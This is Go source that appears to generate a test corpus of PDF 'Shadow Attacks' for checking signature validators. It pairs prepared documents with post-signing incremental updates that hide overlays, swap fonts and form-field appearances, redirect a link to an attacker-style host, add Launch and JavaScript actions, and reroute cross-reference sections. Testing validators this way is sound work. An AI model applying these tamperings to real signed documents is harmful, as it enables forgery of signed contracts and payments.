package corpus

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
)

// Shadow is a document prepared before it is signed, and what is done to it
// afterwards (Mainka, Mladenov, Rohlmann: Shadow Attacks, NDSS 2021).
type Shadow struct {
	Name     string
	Document []byte
	// Tamper makes the hidden content show in the signed document.
	Tamper func(signed []byte) ([]byte, error)
}

// Shadows are attacks of the three kinds: hide, replace, hide and replace.
func Shadows() []Shadow {
	return slices.Concat(hide(), replace(), hideAndReplace())
}

// tamper appends a revision with objects of the prepared document.
func tamper(objects ...object) func([]byte) ([]byte, error) {
	return func(b []byte) ([]byte, error) {
		t, err := open(b)
		if err != nil {
			return nil, err
		}
		return t.revise(objects...), nil
	}
}

// merged replaces keys of the objects as they are in the signed document.
func merged(num uint32, key, value string, more ...object) func([]byte) ([]byte, error) {
	return func(b []byte) ([]byte, error) {
		t, err := open(b)
		if err != nil {
			return nil, err
		}
		o, err := t.file.Load(num, 0)
		if err != nil {
			return nil, err
		}
		return t.revise(append(more, of(o, set(o, key, value)))...), nil
	}
}

const cover = "1 1 1 rg 60 690 300 40 re f"

// hide: content below an overlay that goes away.
func hide() []Shadow {
	overlay := plain(obj(3, strings.Replace(page, "/Resources<<", "/Resources<</XObject<</X 6 0 R>>", 1)), stm(4, "", text+" q /X Do Q"),
		stm(6, "/Type/XObject/Subtype/Form/BBox[0 0 595 842]", cover))
	image := plain(obj(3, strings.Replace(page, "/Resources<<", "/Resources<</XObject<</X 6 0 R>>", 1)), stm(4, "", text+" q 300 0 0 40 60 690 cm /X Do Q"),
		stm(6, "/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8", "\xff"))
	stamped := plain(withPage("/Annots[6 0 R]"), obj(6, "<</Type/Annot/Subtype/Stamp/Rect[60 690 360 730]/F 4/AP<</N 7 0 R>>>>"), stm(7, "/Type/XObject/Subtype/Form/BBox[0 0 300 40]", "1 g 0 0 300 40 re f"))
	layered := plain(withCatalog("/OCProperties<</OCGs[6 0 R]/D 8 0 R>>"), obj(3, strings.Replace(page, "/Resources<<", "/Resources<</Properties<</L 6 0 R>>", 1)),
		stm(4, "", text+" /OC /L BDC "+cover+" EMC"), obj(6, "<</Type/OCG/Name(L)>>"), obj(8, "<</ON[6 0 R]>>"))
	parts := plain(obj(3, strings.Replace(page, "4 0 R", "[4 0 R 6 0 R]", 1)), stm(6, "", cover))
	hidden := plain(withPage("/Annots[6 0 R]"), obj(6, "<</Type/Annot/Subtype/FreeText/Rect[60 690 360 730]/F 2/DA(/Helv 20 Tf)/Contents(RM 9)/AP<</N 7 0 R>>>>"), stm(7, "/Type/XObject/Subtype/Form/BBox[0 0 300 40]", "0 g 0 0 300 40 re f"))
	return []Shadow{
		{"hide: form emptied", overlay, tamper(stm(6, "/Type/XObject/Subtype/Form/BBox[0 0 595 842]", ""))},
		{"hide: form shrunk", overlay, tamper(stm(6, "/Type/XObject/Subtype/Form/BBox[0 0 1 1]", cover))},
		{"hide: form free", overlay, tamper(object{num: 6, gen: 1, free: true})},
		{"hide: form null", overlay, tamper(obj(6, "null"))},
		{"hide: form is an annotation", overlay, tamper(obj(6, "<</Type/Annot/Subtype/Stamp/Rect[0 0 9 9]>>"))},
		{"hide: image transparent", image, tamper(stm(6, "/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Mask[0 255]", "\xff"))},
		{"hide: image free", image, tamper(object{num: 6, gen: 1, free: true})},
		{"hide: stamp hidden", stamped, merged(6, "F", "2")},
		{"hide: stamp moved", stamped, merged(6, "Rect", "[0 0 1 1]")},
		{"hide: stamp emptied", stamped, tamper(stm(7, "/Type/XObject/Subtype/Form/BBox[0 0 300 40]", ""))},
		{"hide: stamp free", stamped, tamper(object{num: 6, gen: 1, free: true})},
		{"hide: layer off", layered, tamper(obj(8, "<</OFF[6 0 R]>>"))},
		{"hide: layer renamed", layered, tamper(obj(6, "<</Type/OCG/Name(L)/Usage<</View<</ViewState/OFF>>>>>>"))},
		{"hide: part of the contents free", parts, tamper(object{num: 6, gen: 1, free: true})},
		{"hide: part of the contents emptied", parts, tamper(stm(6, "", ""))},
		{"hide: hidden annotation shown", hidden, merged(6, "F", "4")},
	}
}

// replace: what the text refers to changes.
func replace() []Shadow {
	encoded := plain(obj(5, "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding 6 0 R/Widths 7 0 R/FirstChar 48/LastChar 50/FontDescriptor 8 0 R/ToUnicode 9 0 R>>"), obj(6, "<</Type/Encoding/Differences[48/zero/one/two]>>"),
		obj(7, "[500 500 500]"), obj(8, "<</Type/FontDescriptor/FontName/Helvetica/Flags 32/FontBBox[0 0 1000 1000]/ItalicAngle 0/Ascent 800/Descent -200/CapHeight 700/StemV 80>>"), stm(9, "", "/CIDInit/ProcSet findresource begin end"), stm(4, "", strings.Replace(text, "Halaman 1", "012", 1)))
	font := strings.Replace(string(encoded[bytes.Index(encoded, []byte("<</Type/Font/Subtype")):]), "\nendobj", "\x00", 1)
	font = font[:strings.IndexByte(font, 0)]
	w := "/Type/Annot/Subtype/Widget/FT/Tx/T(jumlah)/Rect[60 690 360 730]/F 4/P 3 0 R/DA(/F0 20 Tf 0 g)"
	look := func(s string) object {
		return stm(7, "/Type/XObject/Subtype/Form/BBox[0 0 300 40]/Resources<</Font<</F0 5 0 R>>>>", "BT /F0 20 Tf 5 10 Td ("+s+") Tj ET")
	}
	field := plain(withCatalog("/AcroForm<</Fields[6 0 R]/DR<</Font<</F0 5 0 R>>>>/DA(/F0 0 Tf 0 g)>>"), withPage("/Annots[6 0 R]"), obj(6, "<<"+w+"/V(RM 1)/AP<</N 7 0 R>>>>"), look("RM 1"))
	link := plain(withPage("/Annots[6 0 R]"), obj(6, "<</Type/Annot/Subtype/Link/Rect[60 690 360 730]/Border[0 0 0]/A 7 0 R>>"), obj(7, "<</S/URI/URI(https://www.gov.my)>>"))
	lang := plain(withCatalog("/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>"), obj(6, "<</Type/Filespec/F(a.txt)/EF<</F 7 0 R>>>>"), stm(7, "/Type/EmbeddedFile", "RM 1"))
	group := plain(obj(3, strings.Replace(page, "/Resources<<", "/Resources<</ColorSpace<</C 6 0 R>>/ExtGState<</G 7 0 R>>", 1)), stm(4, "", "/C cs 0 sc /G gs "+text), obj(6, "[/Separation/Black/DeviceGray 8 0 R]"), obj(7, "<</CA 1/ca 1>>"), obj(8, "<</FunctionType 2/Domain[0 1]/C0[0]/C1[1]/N 1>>"))
	return []Shadow{
		{"replace: font encoding", encoded, tamper(obj(6, "<</Type/Encoding/Differences[48/nine/eight/seven]>>"))},
		{"replace: font widths", encoded, tamper(obj(7, "[0 0 0]"))},
		{"replace: font descriptor", encoded, tamper(obj(8, "<</Type/FontDescriptor/FontName/Symbol/Flags 4/FontBBox[0 0 1000 1000]/ItalicAngle 0/Ascent 800/Descent -200/CapHeight 700/StemV 80>>"))},
		{"replace: font itself", encoded, tamper(obj(5, strings.Replace(font, "Helvetica", "Symbol", 1)))},
		{"replace: font to Unicode", encoded, tamper(stm(9, "", "/CIDInit/ProcSet findresource begin 1 beginbfchar <30> <0039> endbfchar end"))},
		{"replace: appearance of a field alone", field, tamper(look("RM 9,999,999"))},
		{"replace: appearance and value differ", field, tamper(look("RM 9,999,999"), obj(6, "<<"+w+"/V(RM 2)/AP<</N 7 0 R>>>>"))},
		{"replace: place of a field", field, merged(6, "Rect", "[0 0 595 842]")},
		{"replace: kind of a field", field, merged(6, "FT", "/Btn")},
		{"replace: name of a field", field, merged(6, "T", "(lain)")},
		{"replace: flags of a field", field, merged(6, "F", "2")},
		{"replace: script of a field", field, merged(6, "AA", "<</F<</S/JavaScript/JS(x)>>>>")},
		{"replace: link", link, tamper(obj(7, "<</S/URI/URI(https://penyerang.example)>>"))},
		{"replace: link to a program", link, merged(6, "A", "<</S/Launch/F(a.exe)>>")},
		{"replace: embedded file", lang, tamper(stm(7, "/Type/EmbeddedFile", "RM 9,999,999"))},
		{"replace: colour function", group, tamper(obj(8, "<</FunctionType 2/Domain[0 1]/C0[1]/C1[1]/N 1>>"))},
		{"replace: graphics state", group, tamper(obj(7, "<</CA 0/ca 0>>"))},
	}
}

// hideAndReplace: the document has two contents from the start, and a
// cross-reference section chooses.
func hideAndReplace() []Shadow {
	second := stm(4, "", forged)
	// The other object 4 lies in the file, but no section leads to it.
	double := update(plain(), layout{trailer: ids}, withPage("/Rotate 0"))
	junk := fmt.Sprintf("4 0 obj\n%s\nendobj\n", second.body)
	hiddenObject := write(layout{trailer: ids, header: "%PDF-1.7\n" + junk}, with()...)
	twoTrees := plain(obj(6, "<</Type/Catalog/Pages 7 0 R>>"), obj(7, "<</Type/Pages/Count 1/Kids[8 0 R]>>"), obj(8, strings.NewReplacer("2 0 R", "7 0 R", "4 0 R", "9 0 R").Replace(page)), stm(9, "", forged))
	twoPages := plain(obj(6, strings.Replace(page, "4 0 R", "7 0 R", 1)), stm(7, "", forged))
	older := update(write(layout{trailer: ids}, with(stm(4, "", forged))...), layout{trailer: ids}, stm(4, "", text))
	remap := func(num int, mark string, stream bool) func([]byte) ([]byte, error) {
		return func(b []byte) ([]byte, error) {
			t, err := open(b)
			if err != nil {
				return nil, err
			}
			at := bytes.Index(b, []byte(mark))
			l := t.layout
			l.size = t.next
			out := slices.Clone(b)
			start := len(out)
			rows := []row{{num, 1, at, 0}}
			if stream {
				l.size++
				rows = append(rows, row{l.size - 1, 1, start, 0})
				out = xrefStream(out, l.or(), fmt.Sprintf("/Prev %d%s", t.prev, l.trailer), rows)
			} else {
				out = xrefTable(out, l.or(), rows)
				out = fmt.Appendf(out, "trailer\n<</Size %d/Root %s/Prev %d%s>>\n", l.size, l.root, t.prev, l.trailer)
			}
			return fmt.Appendf(out, "startxref\n%d\n%%%%EOF\n", start), nil
		}
	}
	rooted := func(root string) func([]byte) ([]byte, error) {
		return func(b []byte) ([]byte, error) {
			t, err := open(b)
			if err != nil {
				return nil, err
			}
			t.layout.root = root
			return t.revise(obj(t.next, "null")), nil
		}
	}
	back := func(b []byte) ([]byte, error) { // an older section is the newest again
		t, err := open(b)
		if err != nil {
			return nil, err
		}
		first := bytes.Index(b, []byte("xref\n0 6"))
		return fmt.Appendf(slices.Clone(b), "xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size %d/Root %s/Prev %d>>\nstartxref\n%d\n%%%%EOF\n", t.next, t.layout.root, first, len(b)), nil
	}
	out := []Shadow{
		{"hide and replace: another catalog", twoTrees, rooted("6 0 R")},
		{"hide and replace: another page tree", twoTrees, merged(1, "Pages", "7 0 R")},
		{"hide and replace: another page", twoPages, tamper(obj(2, "<</Type/Pages/Count 1/Kids[6 0 R]>>"))},
		{"hide and replace: content of another page", twoPages, merged(3, "Contents", "7 0 R")},
		{"hide and replace: older section again", older, back},
		{"hide and replace: older section of the page again", double, back},
	}
	for _, stream := range []bool{false, true} {
		out = append(out, Shadow{fmt.Sprintf("hide and replace: unreferenced object, stream: %v", stream), hiddenObject, remap(4, "4 0 obj", stream)},
			Shadow{fmt.Sprintf("hide and replace: former content, stream: %v", stream), older, remap(4, "4 0 obj", stream)})
	}
	return out
}
